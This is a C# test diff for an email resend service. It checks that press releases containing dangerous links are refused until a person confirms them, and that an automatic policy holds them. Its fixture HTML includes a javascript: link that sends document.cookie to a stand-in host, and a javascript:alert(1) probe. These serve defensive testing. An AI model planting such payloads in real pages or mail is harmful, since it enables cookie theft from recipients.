@@ -48,7 +48,7 @@ public sealed class ResendTests
         using var portal = Start();
         var support = TestUsers.As(PortalRoles.Support);
         var companyId = await CompanyWithMostFailuresAsync(portal);
-        var request = new ResendRequest { Scope = Everything, CompanyId = companyId, Language = "ja", ConsentReference = "電話 11/28 広報部 田中様" };
+        var request = new ResendRequest { Scope = Everything, CompanyId = companyId, Language = "ja", ConsentReference = "電話 11/28 広報部 田中様", ConfirmedDangerousLinks = true };
         var before = await portal.Service<AffectedReportService>().BuildAsync(Everything, default);
         var failedForCompany = before.Companies.Single(c => c.CompanyId == companyId).FailedMails;
 
@@ -104,7 +104,7 @@ public sealed class ResendTests
         var support = TestUsers.As(PortalRoles.Support);
         var companyId = await CompanyWithMostFailuresAsync(portal);
         await portal.Service<ContactService>().SetAsync(support, companyId, null, ContactStatus.Agreed, null, default);
-        var request = new ResendRequest { Scope = Everything, CompanyId = companyId };
+        var request = new ResendRequest { Scope = Everything, CompanyId = companyId, ConfirmedDangerousLinks = true };
         var plan = await portal.Service<ResendService>().PlanAsync(request, default);
         int unsubscribedItems, goneItems;
         await using (var db = await portal.Service<IDbContextFactory<PortalDbContext>>().CreateDbContextAsync())
@@ -149,7 +149,7 @@ public sealed class ResendTests
 
         var refused = await Assert.ThrowsAsync<ResendRefusedException>(() =>
             resends.StartAsync(support, new ResendRequest { Scope = Everything, CompanyId = declining }, default));
-        var request = new ResendRequest { Scope = Everything, CompanyId = agreeing };
+        var request = new ResendRequest { Scope = Everything, CompanyId = agreeing, ConfirmedDangerousLinks = true };
         var ids = await Task.WhenAll(resends.StartAsync(support, request, default), resends.StartAsync(TestUsers.As(PortalRoles.Admin), request, default));
 
         Assert.Contains("declined", refused.Message);
@@ -173,8 +173,8 @@ public sealed class ResendTests
         {
             await portal.Service<ContactService>().SetAsync(support, c.CompanyId, null, ContactStatus.Agreed, null, default);
         }
-        var first = await resends.StartAsync(support, new ResendRequest { Scope = Everything, CompanyId = report.Companies[0].CompanyId }, default);
-        var second = await resends.StartAsync(support, new ResendRequest { Scope = Everything, CompanyId = report.Companies[1].CompanyId }, default);
+        var first = await resends.StartAsync(support, new ResendRequest { Scope = Everything, CompanyId = report.Companies[0].CompanyId, ConfirmedDangerousLinks = true }, default);
+        var second = await resends.StartAsync(support, new ResendRequest { Scope = Everything, CompanyId = report.Companies[1].CompanyId, ConfirmedDangerousLinks = true }, default);
 
         await resends.PauseAsync(support, first, default);
         await resends.CancelAsync(support, second, default);
@@ -260,5 +260,57 @@ public sealed class ResendTests
         Assert.Equal(DelayNotice.Default("ja"), await resends.TemplateAsync("ja", default));
         Assert.Equal(0, await db.ResendBatches.CountAsync());
         Assert.Equal(0, await db.CompanyContacts.CountAsync());
+    }
+
+    [Fact]
+    public async Task A_release_with_a_dangerous_link_is_resent_only_after_a_person_confirms_and_the_automatic_policy_holds_it()
+    {
+        using var portal = Start();
+        var support = TestUsers.As(PortalRoles.Support);
+        var resends = portal.Service<ResendService>();
+        var companyId = await CompanyWithMostFailuresAsync(portal);
+        await portal.Service<ContactService>().SetAsync(support, companyId, null, ContactStatus.Agreed, null, default);
+        var request = new ResendRequest { Scope = Everything, CompanyId = companyId };
+        var plan = await resends.PlanAsync(request, default);
+        var risky = plan.ReleaseIds[0];
+        await using (var db = await portal.Service<IDbContextFactory<PortalDbContext>>().CreateDbContextAsync())
+        {
+            await db.Releases.Where(r => r.Id == risky).ExecuteUpdateAsync(x => x.SetProperty(r => r.Html, "<p>詳細は<a href=\"javascript:fetch('//x.example/'+document.cookie)\">こちら</a></p>"));
+        }
+
+        // The service refuses without the person's yes, whoever calls it (not only the dialog).
+        var refused = await Assert.ThrowsAsync<ResendRefusedException>(() => resends.StartAsync(support, request, default));
+        Assert.Contains($"#{risky}", refused.Message);
+        await using (var db = await portal.Service<IDbContextFactory<PortalDbContext>>().CreateDbContextAsync())
+        {
+            Assert.Equal(0, await db.ResendBatches.CountAsync());
+        }
+        var batch = await resends.StartAsync(support, request with { ConfirmedDangerousLinks = true }, default);
+        Assert.True(batch > 0);
+
+        // The automatic policy: a fresh IP-block failure of a release that links somewhere dangerous is held, and the resend page says so.
+        var ip = (await portal.Service<PrPortal.Features.Delivery.DeliveryService>().SendingIpsAsync(default)).First(i => i.Role == SendingIpRole.Primary);
+        var outlook = portal.Service<SandboxWorld>().Simulator(MailboxProviderCatalog.MicrosoftConsumer);
+        outlook.Rules.Block(ip.Address, new SimulatedReply(BlockStage.Rcpt,
+            "550 5.7.1 Unfortunately, messages from [{ip}] weren't sent. Please contact your Internet service provider since part of their network is on our block list (S3150)."));
+        var sent = await CustomerMail.SendAsync(portal.Services, ip.Address, "aya.risky@outlook.com", "ken.risky@hotmail.com", "mio.risky@live.jp");
+        outlook.Rules.UnblockAll();
+        int release;
+        await using (var db = await portal.Service<IDbContextFactory<PortalDbContext>>().CreateDbContextAsync())
+        {
+            var deliveryId = sent[0].Recipient.DeliveryId!.Value;
+            release = await db.Deliveries.Where(d => d.Id == deliveryId).Select(d => d.ReleaseId).SingleAsync();
+            await db.Releases.Where(r => r.Id == release).ExecuteUpdateAsync(x => x.SetProperty(r => r.Html, "<p><a href=\"javascript:alert(1)\">詳細</a></p>"));
+        }
+        Assert.Null(await resends.AutoResendAsync(default));
+        var held = Assert.Single(await resends.HeldAsync(default), h => h.ReleaseId == release);
+        Assert.Equal(3, held.Mails);
+        Assert.True(held.DangerousLinks > 0);
+        // Held once, not again every run.
+        Assert.Null(await resends.AutoResendAsync(default));
+        await using (var db = await portal.Service<IDbContextFactory<PortalDbContext>>().CreateDbContextAsync())
+        {
+            Assert.Equal(1, await db.AuditEntries.CountAsync(a => a.Action == ResendService.HeldAction && a.Subject == $"release {release}"));
+        }
     }
 }
